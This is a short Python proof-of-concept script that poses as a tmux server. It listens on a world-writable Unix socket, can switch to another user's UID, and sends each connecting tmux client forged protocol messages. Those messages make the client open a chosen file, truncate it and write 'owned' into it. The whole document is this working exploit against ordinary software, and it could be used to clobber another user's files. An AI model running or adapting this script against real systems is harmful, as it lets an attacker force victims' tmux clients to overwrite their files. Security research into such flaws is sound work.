"""A tmux server that is none: it makes whoever connects write a file. Shape: a script of its own process.

It speaks as much of tmux's protocol as that takes: each message has a type, its length, flags, the version of the
protocol and a process id. `MSG_WRITE_OPEN` has the client open a file for writing, `MSG_WRITE` fills it.

    python forged_tmux.py SOCKET FILE [UID]
"""

import os
import socket
import struct
import sys

WRITE_OPEN, WRITE, WRITE_CLOSE, VERSION = 303, 304, 306, 8


def message(kind: int, data: bytes) -> bytes:
    return struct.pack("=IHHII", kind, 16 + len(data), 0, VERSION, os.getpid()) + data


def orders(target: str) -> bytes:
    opened = struct.pack("=iii", 1, -1, os.O_WRONLY | os.O_CREAT | os.O_TRUNC) + target.encode() + b"\0"
    written = struct.pack("=i", 1) + b"owned\n"
    return message(WRITE_OPEN, opened) + message(WRITE, written) + message(WRITE_CLOSE, struct.pack("=i", 1))


def main(place: str, target: str, uid: int | None) -> None:
    if uid is not None:
        os.setgid(uid)
        os.setuid(uid)
    server = socket.socket(socket.AF_UNIX)
    server.bind(place)
    os.chmod(place, 0o777)
    server.listen()
    print("listening", flush=True)
    while True:
        client, _ = server.accept()
        client.recv(65536)
        client.sendall(orders(target))
        client.recv(65536)  # keep it until the client goes
        print("connected", flush=True)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]) if len(sys.argv) > 3 else None)
